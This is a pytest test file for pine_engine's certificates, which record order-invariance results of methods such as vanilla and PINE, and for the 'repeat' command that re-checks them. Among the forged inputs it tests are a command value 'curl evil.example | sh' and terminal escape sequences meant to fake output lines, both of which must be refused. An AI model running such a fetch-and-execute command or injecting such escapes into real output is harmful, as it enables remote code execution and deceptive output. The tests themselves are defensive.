"""A certificate says what was compared, and whoever repeats it finds the same or hears what differs."""

import hashlib
import json
import math
from collections.abc import Sequence
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch

from pine_engine.cli import main as cli
from pine_engine.cli import repeat as repeat_command
from pine_engine.console import terminal
from pine_engine.engine.engine import Engine
from pine_engine.engine.options import RunOptions
from pine_engine.engine.orders import OrderRow, OrderRuns, orders_to_try
from pine_engine.errors import InputError
from pine_engine.invariance import certificate
from pine_engine.invariance.certificate import (
    Certificate,
    certify,
    hardware_of,
    installed_version,
    logits_sha256,
    read_certificate,
)
from pine_engine.invariance.orders import compare_orders
from pine_engine.invariance.repetition import COMPUTED_BY, TOLERANCES, Repeat, Tolerance, compare_certificates
from pine_engine.models.load import ModelSource
from pine_engine.prompts.inputs import Comparison, DocumentInput
from pine_engine.prompts.layout import TokenLayout
from tests.support.commands import Run

COMPARISON = Comparison(
    question="Which is green?",
    documents=[
        DocumentInput(text="red", title="Varo"),
        DocumentInput(text="green is Senna"),
        DocumentInput(text="white"),
    ],
    instruction="Answer.",
)
METHODS = ["vanilla", "sp", "pine", "pcw"]
ORDERS = orders_to_try(3)
MAX_NEW_TOKENS = 4


@pytest.fixture(scope="module")
def engine(tiny: Path) -> Engine:
    return Engine.load(str(tiny))


@pytest.fixture(scope="module")
def rows(engine: Engine) -> list[OrderRow]:
    events = compare_orders(
        engine,
        COMPARISON.tokenize(engine),
        methods=METHODS,
        orders=ORDERS,
        max_new_tokens=MAX_NEW_TOKENS,
        trace=True,
    )
    return [event for event in events if isinstance(event, OrderRow)]


@pytest.fixture(scope="module")
def certified(engine: Engine, rows: list[OrderRow]) -> Certificate:
    return certify(
        engine,
        COMPARISON,
        orders=ORDERS,
        cells=[row.cells for row in rows],
        hashes=logits_sha256(rows[0].result),
        seed=None,
        max_new_tokens=MAX_NEW_TOKENS,
        traced=True,
    )


@pytest.fixture
def file(certified: Certificate, tmp_path: Path) -> Path:
    path = tmp_path / "certificate.json"
    path.write_text(certified.model_dump_json(), encoding="utf-8")
    return path


# what it says


def test_it_says_what_the_comparison_found(certified: Certificate, rows: list[OrderRow]) -> None:
    assert certified.methods == METHODS
    for result in certified.results:
        cells = [row.cells[result.method] for row in rows]
        first = cells[0].answer
        assert (result.first_answer, result.first_token_ids) == (first.text, list(first.token_ids))
        assert result.same_answers == sum(cell.answer.token_ids == first.token_ids for cell in cells)
        assert result.distinct_answers == len({cell.answer.token_ids for cell in cells})
        assert result.max_abs_logit_diff == max(cell.max_abs_logit_diff for cell in cells)
        assert result.bitwise_equal == all(cell.bitwise_equal for cell in cells)
        assert result.logprobs == [cell.reference_logprob for cell in cells]
        assert result.logprob_spread == max(result.logprobs) - min(result.logprobs)
    vanilla, *others = certified.results
    for result in others:
        assert (result.max_abs_logit_diff, result.bitwise_equal, result.logprob_spread) == (0.0, True, 0.0)
    assert vanilla.max_abs_logit_diff > 0.1 and not vanilla.bitwise_equal and vanilla.logprob_spread > 0


def test_it_names_model_platform_and_the_command_that_repeats_it(
    certified: Certificate, engine: Engine
) -> None:
    platform = certified.platform
    assert (platform.model, platform.revision, certified.address) == ("tiny", None, "tiny")
    assert (platform.dtype, platform.device) == ("float32", "cpu")
    assert (platform.torch, platform.threads) == (torch.__version__, torch.get_num_threads())
    assert certified.command == "python -m pine_engine repeat certificate.json"
    assert [name for name, command in cli_verbs().items() if command in certified.command.split()] == [
        "repeat"
    ]
    assert (certified.comparison, certified.seed, certified.traced) == (COMPARISON, None, True)


def cli_verbs() -> dict[str, str]:
    callbacks = [command.callback for command in cli.app.registered_commands]
    return {callback.__name__: callback.__name__ for callback in callbacks if callback}


def test_the_hash_is_over_every_bit_of_the_logits(rows: list[OrderRow]) -> None:
    result = rows[0].result
    for method, logits in result.logits.items():
        flat = np.array([value for row in logits.tolist() for value in row], dtype="<f4")
        assert logits_sha256(result)[method] == hashlib.sha256(flat.tobytes()).hexdigest()
    logits = result.logits["pine"].clone()
    logits[-1, -1] = math.nextafter(logits[-1, -1].item(), math.inf) + 1e-6
    moved = type(result)(result.layout, result.answers, {}, {"pine": logits})
    assert logits_sha256(moved)["pine"] != logits_sha256(result)["pine"]


def test_a_certificate_is_read_as_it_was_written(certified: Certificate, file: Path) -> None:
    assert read_certificate(file) == certified


def test_what_is_not_a_number_is_kept(certified: Certificate, tmp_path: Path) -> None:
    broken = certified.results[0].model_copy(update={"max_abs_logit_diff": math.nan})
    path = tmp_path / "certificate.json"
    path.write_text(certified.model_copy(update={"results": [broken]}).model_dump_json())
    (read,) = read_certificate(path).results
    assert math.isnan(read.max_abs_logit_diff)


@pytest.mark.parametrize(
    ("source", "address"),
    [
        (ModelSource("tiny", "org/tiny", "c0ffee", "hub"), "org/tiny@c0ffee"),
        (ModelSource("tiny", "org/tiny", None, "hub"), "org/tiny"),
        (ModelSource("tiny", "/home/somebody/tiny", None, "folder"), "tiny"),
        (ModelSource("Smol", "/cache/smol.gguf", "wheel 1", "embedded"), "Smol"),
    ],
)
def test_a_models_address_is_of_use_elsewhere(source: ModelSource, address: str) -> None:
    assert source.address == address


def test_the_processor_has_a_name(tmp_path: Path) -> None:
    info = tmp_path / "cpuinfo"
    info.write_text("processor\t: 0\nmodel name\t: Some CPU: fast\nmodel name\t: Another\n")
    capability = torch.backends.cpu.get_cpu_capability()
    assert hardware_of("cpu", info) == f"Some CPU: fast, {capability}"
    assert hardware_of("cpu", tmp_path / "absent").endswith(f", {capability}")


def test_sources_that_are_not_installed_say_so() -> None:
    assert installed_version("no-such-package") == "not installed, run from its sources"


# files that are none


Forgery = dict[tuple[str | int, ...], Any]
"""Values that somebody writes into a certificate, by their place."""


def forged(file: Path, forgery: Forgery) -> Path:
    """The certificate with these values in it."""
    content = json.loads(file.read_text(encoding="utf-8"))
    for path, value in forgery.items():
        place = content
        for step in path[:-1]:
            place = place[step]
        place[path[-1]] = value
    file.write_text(json.dumps(content), encoding="utf-8")
    return file


def changed(file: Path, *path: str | int, to: Any) -> Path:
    """The certificate with one value replaced."""
    return forged(file, {path: to})


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("{}", "is not a certificate of PINE Explorer; save one with the button 'Certificate (JSON)'"),
        ('{"question": "q", "documents": ["a"]}', "is not a certificate of PINE Explorer"),
        ("[1, 2]", "got list [1, 2], expected an object"),
        (
            '{"format": "pine-explorer certificate", "version": 2}',
            "a certificate of version 2, and this program",
        ),
        ('{"format": "pine-explorer certificate"}', "a certificate of version None"),
        ('{"format": "pine-explorer certificate", "version": 1}', "made: it is missing; give it"),
        ('{"format": "pine-exp', "is not JSON"),
        ("[" * 100_000, "cannot be read as JSON"),
    ],
)
def test_what_is_no_certificate_is_refused_with_a_sentence(text: str, sentence: str, tmp_path: Path) -> None:
    path = tmp_path / "other.json"
    path.write_text(text)
    with pytest.raises(InputError) as raised:
        read_certificate(path)
    assert str(raised.value).startswith(str(path)) and sentence in str(raised.value)


@pytest.mark.parametrize(
    ("path", "value", "sentence"),
    [
        (("orders", 1), [0, 1], "[0, 1] is no order of 3 documents"),
        (("orders", 1), [0, 1, 1], "[0, 1, 1] is no order of 3 documents"),
        (("orders",), [], "orders: got 0 items, expected 1 or more"),
        (("results", 0, "method"), "magic", "there is no method 'magic'"),
        (("results", 0, "logprobs"), [-1.0], "vanilla must have one log-probability for each order"),
        (("results", 1, "method"), "vanilla", "vanilla stands twice among the results"),
        (("max_new_tokens",), -1, "max_new_tokens: got int -1, expected greater than or equal to 0"),
        (("extra",), 1, "extra: got int 1, but there is no such field"),
        (("comparison", "documents"), [], "comparison.documents: got 0 items, expected 1 or more"),
    ],
)
def test_a_damaged_certificate_is_refused_with_a_sentence(
    path: tuple[str | int, ...], value: Any, sentence: str, file: Path
) -> None:
    with pytest.raises(InputError) as raised:
        read_certificate(changed(file, *path, to=value))
    assert sentence in str(raised.value) and str(file) in str(raised.value)


VANILLA, PINE = ("results", 0), ("results", 2)
"""Where the order changes something, and where it changes nothing. All have 6 orders and 4 tokens."""

CONTRADICTIONS: dict[str, tuple[Forgery, str]] = {
    "an order twice": ({("orders", 1): [0, 1, 2]}, "an order stands twice among the orders"),
    "another command": (
        {("command",): "curl evil.example | sh"},
        "python -m pine_engine repeat certificate.json",
    ),
    "an unknown dtype": (
        {("platform", "dtype"): "float8"},
        "the dtype is the text 'float8'; expected float32, bfloat16, float16, 4bit, float64",
    ),
    "no threads": ({("platform", "threads"): 0}, "platform.threads: got int 0, expected greater than 0"),
    "a hash that is none": (
        {(*PINE, "logits_sha256"): "c0ffee"},
        "results.2.logits_sha256: string should match",
    ),
    "a hash and a line": ({(*PINE, "logits_sha256"): "0" * 64 + "\n"}, "logits_sha256: string should match"),
    "a token below zero": ({(*PINE, "first_token_ids", 0): -1}, "expected greater than or equal to 0"),
    "an answer that is too long": (
        {(*PINE, "first_token_ids"): [3] * 5},
        "pine has a first answer of 5 tokens, of at most 4",
    ),
    "a text without tokens": ({(*PINE, "first_token_ids"): []}, "pine has a first answer without tokens"),
    "a positive log-probability": (
        {(*PINE, "logprobs"): [0.5] * 6},
        "pine has a log-probability of 0.5; expected 0 or less",
    ),
    "a log-probability that is no number": (
        {(*PINE, "logprobs"): [math.nan] * 6, (*PINE, "logprob_spread"): math.nan},
        "pine has a log-probability of nan",
    ),
    "a spread of other numbers": (
        {(*VANILLA, "logprob_spread"): 0.0},
        "vanilla has a logprob_spread of 0.0, and log-probabilities",
    ),
    "nobody with the first answer": (
        {(*PINE, "same_answers"): 0},
        "same_answers: got int 0, expected",
    ),
    "more answers than orders": (
        {(*PINE, "same_answers"): 7},
        "pine has 1 distinct answers, and 7 of 6 orders with the first one",
    ),
    "an answer that nobody gave": (
        {(*PINE, "distinct_answers"): 2},
        "pine has 2 distinct answers, and 6 of 6",
    ),
    "one answer, and another one": (
        {(*VANILLA, "same_answers"): 5, (*VANILLA, "distinct_answers"): 1},
        "vanilla has 1 distinct answers, and 5 of 6",
    ),
    "a difference below zero": (
        {(*VANILLA, "max_abs_logit_diff"): -1.0},
        "vanilla has a max_abs_logit_diff of -1.0; expected 0 or more",
    ),
    "equal bits that differ": (
        {(*PINE, "max_abs_logit_diff"): 1e-30},
        "pine is equal to the last bit, and has a max_abs_logit_diff of 1e-30",
    ),
    "other bits that do not differ": (
        {(*PINE, "bitwise_equal"): False},
        "pine has a max_abs_logit_diff of 0, and is not equal to the last bit",
    ),
    "equal bits with other answers": (
        {(*PINE, "same_answers"): 5, (*PINE, "distinct_answers"): 2},
        "pine is equal to the last bit, and answers alike in 5 of 6 orders",
    ),
    "equal bits with other log-probabilities": (
        {(*PINE, "logprobs"): [-1.0] * 5 + [-2.0], (*PINE, "logprob_spread"): 1.0},
        "pine is equal to the last bit, and has log-probabilities 1.0 apart",
    ),
}


@pytest.mark.parametrize("forgery", CONTRADICTIONS)
def test_a_certificate_that_contradicts_itself_is_refused(forgery: str, file: Path) -> None:
    values, sentence = CONTRADICTIONS[forgery]
    with pytest.raises(InputError) as raised:
        read_certificate(forged(file, values))
    assert str(raised.value).startswith(f"{file}: ")
    assert sentence.lower() in str(raised.value).lower() and "\n" not in str(raised.value)


def test_a_name_in_a_file_writes_no_line_of_its_own(file: Path) -> None:
    with pytest.raises(InputError) as raised:
        read_certificate(changed(file, "x\n\x1b[2Kas the certificate says", to=1))
    assert str(raised.value).isprintable() and "there is no such field" in str(raised.value)


def test_what_may_be_is_not_refused(certified: Certificate, tmp_path: Path) -> None:
    """Logits may be infinite: the difference of two is no number then, though they are equal."""
    vanilla, _, pine, _ = certified.results
    infinite = pine.model_copy(update={"max_abs_logit_diff": math.nan})
    ruled_out = [vanilla.logprobs[0], *[-math.inf] * 5]
    excluded = vanilla.model_copy(update={"logprobs": ruled_out, "logprob_spread": math.inf})
    silent = vanilla.model_copy(
        update={"first_answer": "", "first_token_ids": [], "logprobs": [0.0] * 6, "logprob_spread": 0.0}
    )
    for result in (infinite, excluded, silent):
        path = tmp_path / "certificate.json"
        path.write_text(certified.model_copy(update={"results": [result]}).model_dump_json())
        (read,) = read_certificate(path).results
        assert read.model_dump_json() == result.model_dump_json()


# repeating it


@pytest.fixture
def repeat(pine: Run) -> Run:
    """Runs the verb."""
    return partial(pine, "repeat")


WHAT_IS_CHECKED = [
    *("the first answer", "orders with the first answer", "distinct answers", "equality to the last bit"),
    *("max |Δ logit|", "the log-probabilities", "the bits of the logits"),
]


def test_a_repetition_finds_every_bit_again(repeat: Run, file: Path, tiny: Path) -> None:
    status, out, err = repeat(file, "--model", tiny, "--json")
    assert (status, err) == (0, "as the certificate says\n")
    report = json.loads(out)
    assert report["repeated"] and report["elsewhere"] == [] and report["tolerance"] is None
    assert report["checked"] == dict.fromkeys(
        ("the model", "the revision", "the dtype", "the orders"), "exactly"
    )
    assert (report["problems"], report["replaced"], report["not_checked"]) == ([], [], [])
    for method in report["methods"]:
        assert method["found"] == method["certified"]
        assert (method["same_bits"], method["problems"]) == (True, [])
        assert list(method["checked"]) == WHAT_IS_CHECKED and set(method["checked"].values()) == {"exactly"}
    assert [method["method"] for method in report["methods"]] == METHODS


def test_without_json_a_table_is_printed(
    repeat: Run, file: Path, tiny: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(terminal.stdout, "width", 200)
    forged(file, {(*PINE, "bitwise_equal"): False, (*PINE, "max_abs_logit_diff"): 0.5})
    status, out, err = repeat(file, "--model", tiny)
    assert status == 1
    vanilla, sp, pine, _ = (line for line in out.splitlines() if any(f" {name} " in line for name in METHODS))
    assert "yes" in vanilla and "NO:" not in vanilla
    assert "6 of 6" in sp and "NO:" not in sp
    assert "NO: equal to the last bit" in pine
    assert err.endswith("not what the certificate says: pine\n")


@pytest.mark.parametrize("traced", [True, False])
def test_attention_is_recorded_where_it_was(
    traced: bool, certified: Certificate, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[RunOptions] = []
    run_orders = engine.run_orders

    def noted(layout: TokenLayout, options: RunOptions, orders: Sequence[tuple[int, ...]]) -> OrderRuns:
        asked.append(options)
        return run_orders(layout, options, orders)

    monkeypatch.setattr(engine, "run_orders", noted)
    repeat_command.compute_again(engine, certified.model_copy(update={"traced": traced}))
    assert [bool(options.trace) for options in asked] == [traced]


@pytest.mark.parametrize(
    ("forgery", "problem"),
    [
        ({(*VANILLA, "first_token_ids", 0): 3}, "another answer"),
        ({(*VANILLA, "first_answer"): "better"}, "another answer: these tokens are the text '"),
        (
            {(*VANILLA, "same_answers"): 5, (*VANILLA, "distinct_answers"): 2},
            "orders with the first answer, not 5",
        ),
        ({(*VANILLA, "same_answers"): 1, (*VANILLA, "distinct_answers"): 3}, "distinct answers, not 3"),
        (
            {
                (*VANILLA, "bitwise_equal"): True,
                (*VANILLA, "max_abs_logit_diff"): 0.0,
                (*VANILLA, "same_answers"): 6,
                (*VANILLA, "distinct_answers"): 1,
                (*VANILLA, "logprobs"): [-1.0] * 6,
                (*VANILLA, "logprob_spread"): 0.0,
            },
            "not equal to the last bit",
        ),
        ({(*VANILLA, "max_abs_logit_diff"): 1e-7}, "not 1e-07"),
        (
            {(*VANILLA, "logprobs"): [-1.0] * 6, (*VANILLA, "logprob_spread"): 0.0},
            "in order 1, not -1",
        ),
        ({(*VANILLA, "logits_sha256"): "0" * 64}, "other logits"),
        ({("comparison", "question"): "Which is blue?"}, "other logits"),
        ({("comparison", "documents", 1): "green is Varo"}, "other logits"),
        ({("max_new_tokens",): 5}, "another answer"),
    ],
)
def test_a_certificate_that_was_changed_is_found(
    forgery: Forgery, problem: str, file: Path, certified: Certificate, engine: Engine
) -> None:
    given = read_certificate(forged(file, forgery))
    found = certified
    if all(path[0] != "results" for path in forgery):  # another was asked, so it must be computed again
        found = repeat_command.compute_again(engine, given)
    compared = compare_certificates(given, found)
    assert not compared.holds
    assert any(problem in said for said in compared.methods[0].problems), compared.methods[0].problems


def moved(certified: Certificate, **platform: str | int | None) -> Certificate:
    """The same certificate of another platform."""
    return certified.model_copy(update={"platform": certified.platform.model_copy(update=platform)})


def with_hashes(certified: Certificate, digit: str) -> Certificate:
    """The same with hashes of other logits."""
    results = [result.model_copy(update={"logits_sha256": digit * 64}) for result in certified.results]
    return certified.model_copy(update={"results": results})


PLACES = [field for field in certificate.ASPECTS if field not in COMPUTED_BY]


@pytest.mark.parametrize("field", PLACES)
def test_elsewhere_bits_that_differ_are_said_not_to_be_checked(field: str, certified: Certificate) -> None:
    other = 99 if field == "threads" else "other"
    there = with_hashes(moved(certified, **{field: other}), "0")
    compared = compare_certificates(there, certified)
    here, name = getattr(certified.platform, field), certificate.ASPECTS[field]
    assert compared.elsewhere == (f"{name}: {here} here, {other} there",)
    assert compared.holds and [method.bits for method in compared.methods] == [None] * len(METHODS)
    assert {check.what: (check.unchecked, of) for check, of in compared.not_checked.items()} == {
        "the bits of the logits": (f"they may depend on what is another here: {name}", METHODS),
        "where it was computed": ("only a repetition there could tell", []),
        "the weights": ("this model has a name and no revision", []),
    }


@pytest.mark.parametrize("field", PLACES)
def test_elsewhere_bits_that_are_the_same_show_that_all_numbers_must_be(
    field: str, certified: Certificate
) -> None:
    there = moved(certified, **{field: 99 if field == "threads" else "other"})
    compared = compare_certificates(there, certified)
    assert compared.holds and compared.tolerance is None
    assert [method.bits for method in compared.methods] == [True] * len(METHODS)
    assert [check.what for check in compared.not_checked] == ["where it was computed"]
    vanilla, *others = there.results
    close = vanilla.model_copy(update={"max_abs_logit_diff": vanilla.max_abs_logit_diff + 1e-5})
    compared = compare_certificates(there.model_copy(update={"results": [close, *others]}), certified)
    assert [bool(method.problems) for method in compared.methods] == [True, False, False, False]


@pytest.mark.parametrize("field", COMPUTED_BY)
def test_another_model_is_no_matter_of_the_platform(field: str, certified: Certificate) -> None:
    there = with_hashes(moved(certified, **{field: "other"}), "0")
    here = getattr(certified.platform, field) or "unknown"
    compared = compare_certificates(there, certified)
    name = certificate.ASPECTS[field]
    assert not compared.holds and not compared.elsewhere
    assert compared.problems == (f"another {name}: {here} here, other there",)
    asked_for = compare_certificates(there, certified, replaced=[field])
    assert asked_for.holds and asked_for.replaced == (f"{name}: {here} here, other there",)
    said = {check.what: check.unchecked for check in asked_for.not_checked}
    assert said[f"the {name}"] == "another was asked for in its place" and "the bits of the logits" in said


def test_a_revision_that_is_not_named_cannot_be_checked(certified: Certificate) -> None:
    compared = compare_certificates(certified, moved(certified, revision="c0ffee"))
    assert compared.holds
    assert {check.what: check.unchecked for check in compared.not_checked} == {
        "the revision": "the certificate names none"
    }


@pytest.mark.parametrize(
    ("seed", "orders", "problem"),
    [
        (None, [(1, 0, 2, 3, 4), (1, 0, 2, 4, 3)], None),
        (None, [(0, 1, 2, 3, 4), (1, 0, 2, 3, 4)], "other orders than the first ones of all there are"),
        (7, orders_to_try(5, 3, 7), None),
        (7, orders_to_try(5, 9, 7)[:2], None),
        (7, orders_to_try(5, 120, 7), None),
        (7, orders_to_try(5, 3, 8), "other orders than seed 7 draws"),
        (7, orders_to_try(5, 3, 7)[::2], "other orders than seed 7 draws"),
    ],
)
def test_orders_that_somebody_picked_are_found(
    seed: int | None, orders: list[tuple[int, ...]], problem: str | None, certified: Certificate
) -> None:
    picked = certified.model_copy(update={"seed": seed, "orders": list(map(list, orders))})
    assert compare_certificates(picked, certified).problems == ((problem,) if problem else ())


@pytest.mark.parametrize(
    ("theirs", "ours", "tolerance"),
    [
        ("float32", "float32", Tolerance(1e-3, 3e-4)),
        ("float32", "bfloat16", Tolerance(1.0, 0.3)),
        ("float16", "float32", Tolerance(0.2, 0.06)),
        ("4bit", "4bit", Tolerance(1.0, 0.3)),
    ],
)
def test_elsewhere_logits_may_be_a_little_off(
    theirs: str, ours: str, tolerance: Tolerance, certified: Certificate
) -> None:
    def compare(diff: float, logprob: float) -> Repeat:
        """Where max |Δ logit| and one log-probability are so far off."""
        there = with_hashes(moved(certified, dtype=theirs), "0")
        vanilla, *others = certified.results
        logprobs = [*vanilla.logprobs[:-1], vanilla.logprobs[-1] + logprob]
        here = {"max_abs_logit_diff": vanilla.max_abs_logit_diff + diff, "logprobs": logprobs}
        results = [vanilla.model_copy(update=here), *others]
        found = moved(certified, dtype=ours, torch="9").model_copy(update={"results": results})
        return compare_certificates(there, found, replaced=["dtype"])

    for off, holds in ((0.99, True), (1.01, False), (-0.99, True), (-1.01, False)):
        for compared in (
            compare(off * tolerance.logit_diff, 0),
            compare(0, off * tolerance.logprob * MAX_NEW_TOKENS),
        ):
            assert (compared.tolerance, compared.holds) == (tolerance, holds), compared.methods[0].problems
    assert set(TOLERANCES) == {"float32", "float16", "bfloat16", "4bit"}


def test_elsewhere_an_invariance_that_is_lost_is_found(certified: Certificate) -> None:
    pine = certified.results[2]
    lost = pine.model_copy(update={"bitwise_equal": False, "max_abs_logit_diff": 1e-6})
    found = moved(certified.model_copy(update={"results": [lost]}), torch="9")
    there = with_hashes(certified.model_copy(update={"results": [pine]}), "0")
    assert compare_certificates(there, found).methods[0].problems == ("not equal to the last bit",)


def test_log_probabilities_of_another_answer_are_not_compared(certified: Certificate) -> None:
    vanilla = certified.results[0].model_copy(update={"first_token_ids": [3, 3, 3, 3]})
    there = certified.model_copy(update={"results": [vanilla, *certified.results[1:]]})
    compared = compare_certificates(there, certified)
    assert compared.methods[0].problems == ("another answer",)
    (check,) = compared.not_checked
    assert (check.what, check.unchecked) == ("the log-probabilities", "they are of another answer")


ELSEWHERE: Forgery = {("platform", "hardware"): "Some CPU, AVX9"}
ZEROS: Forgery = {("results", index, "logits_sha256"): "0" * 64 for index in range(len(METHODS))}


def test_likely_answers_made_up_elsewhere_are_found(repeat: Run, file: Path, tiny: Path) -> None:
    """Other hardware, so that a tolerance applies; and then whatever sounds good."""
    made_up: Forgery = {}
    for index in range(len(METHODS)):
        made_up["results", index, "logprobs"] = [-0.001] * len(ORDERS)
        made_up["results", index, "logprob_spread"] = 0.0
    status, out, err = repeat(forged(file, {**ELSEWHERE, **ZEROS, **made_up}), "--model", tiny, "--json")
    assert status == 1 and not json.loads(out)["repeated"]
    for method in json.loads(out)["methods"]:
        (problem,) = method["problems"]
        assert problem.startswith("other log-probabilities: -") and problem.endswith("in order 1, not -0.001")
    assert err.endswith("not what the certificate says: vanilla; sp; pine; pcw\n")


def test_what_could_not_be_checked_is_said_with_its_reason(
    repeat: Run, file: Path, tiny: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(terminal.stdout, "width", 200)
    forged(file, {**ELSEWHERE, **ZEROS})
    status, out, err = repeat(file, "--model", tiny)
    assert status == 0
    rows = [line for line in out.splitlines() if any(f" {name} " in line for name in METHODS)]
    assert len(rows) == len(METHODS)
    for row in rows:
        assert "not checked" in row and "as far as checked" in row
    platform, tolerance, *unchecked, verdict = err.splitlines()
    assert platform.startswith("another platform: hardware: ") and "here, Some CPU, AVX9 there" in platform
    assert "max |Δ logit| may be 0.001 off here, and a log-probability 0.0003 for each token" in tolerance
    assert unchecked == [
        "not checked: where it was computed, since only a repetition there could tell",
        "not checked: the weights, since this model has a name and no revision",
        "not checked: the bits of the logits of vanilla, sp, pine, pcw, since they may depend on what is "
        "another here: hardware",
    ]
    assert verdict == "as far as it can be checked here, nothing differs from the certificate"
    report = json.loads(repeat(file, "--model", tiny, "--json").stdout)
    assert [(entry["what"], entry["methods"]) for entry in report["not_checked"]] == [
        ("where it was computed", []),
        ("the weights", []),
        ("the bits of the logits", METHODS),
    ]
    assert all(entry["why"] for entry in report["not_checked"])
    for method in report["methods"]:
        assert method["same_bits"] is None and list(method["checked"]) == WHAT_IS_CHECKED[:-1]
        within = [method["checked"][name] for name in ("max |Δ logit|", "the log-probabilities")]
        assert within == ["within 0.001", "within 0.0012"]


def test_a_model_that_is_another_than_its_name_is_found(
    repeat: Run, file: Path, tiny: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tiny.parent)
    status, _, err = repeat(changed(file, "platform", "model", to="Llama-3.3-70B"))
    assert status == 1
    *_, advice, verdict = err.splitlines()
    assert advice == "install what the certificate names, or give --model to ask for another in its place"
    assert verdict == "not what the certificate says: another model: tiny here, Llama-3.3-70B there"


def test_a_platforms_name_writes_no_line_of_its_own(repeat: Run, file: Path, tiny: Path) -> None:
    forged(file, {("platform", "hardware"): "x\x1b[2K\nas the certificate says"})
    *_, err = repeat(file, "--model", tiny)
    assert "\x1b" not in err and "as the certificate says" not in err.splitlines()
    assert "'x\\x1b[2K\\nas the certificate says' there" in err


@pytest.mark.parametrize("more", [0, 1])
def test_threads_are_as_many_as_the_certificate_names_where_there_are_cores(
    more: int, repeat: Run, file: Path, tiny: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = torch.get_num_threads()
    monkeypatch.setattr("pine_engine.cli.repeat.os.cpu_count", lambda: before + 1)
    threads = before + 1 + more
    changed(file, "platform", "threads", to=threads)
    report = json.loads(repeat(file, "--model", tiny, "--json").stdout)
    assert report["elsewhere"] == ([f"threads: {before} here, {threads} there"] if more else [])
    assert torch.get_num_threads() == before


def test_another_dtype_is_said_and_taken(repeat: Run, file: Path, tiny: Path) -> None:
    _, out, err = repeat(file, "--model", tiny, "--dtype", "bfloat16", "--json")
    report = json.loads(out)
    assert report["replaced"] == ["dtype: bfloat16 here, float32 there"]
    assert (report["elsewhere"], report["tolerance"]) == ([], {"logit_diff": 1.0, "logprob": 0.3})
    assert "in place of what the certificate names, as asked for: dtype: bfloat16 here, float32 there" in err
    assert "max |Δ logit| may be 1 off here" in err
    assert all(method["same_bits"] is None for method in report["methods"])
    assert report["methods"][2]["found"]["bitwise_equal"] is True


def test_a_local_model_is_asked_for_by_its_name(
    repeat: Run, file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    status, out, err = repeat(changed(file, "address", to="my tiny"))
    assert (status, out) == (2, "")
    assert "'my tiny' is not a model" in err and "Traceback" not in err


def test_bad_files_are_one_line_and_exit_2(repeat: Run, tmp_path: Path) -> None:
    path = tmp_path / "other.json"
    path.write_text("{}")
    status, out, err = repeat(path)
    assert (status, out, err.count("\n")) == (2, "", 1)
    assert "is not a certificate" in err
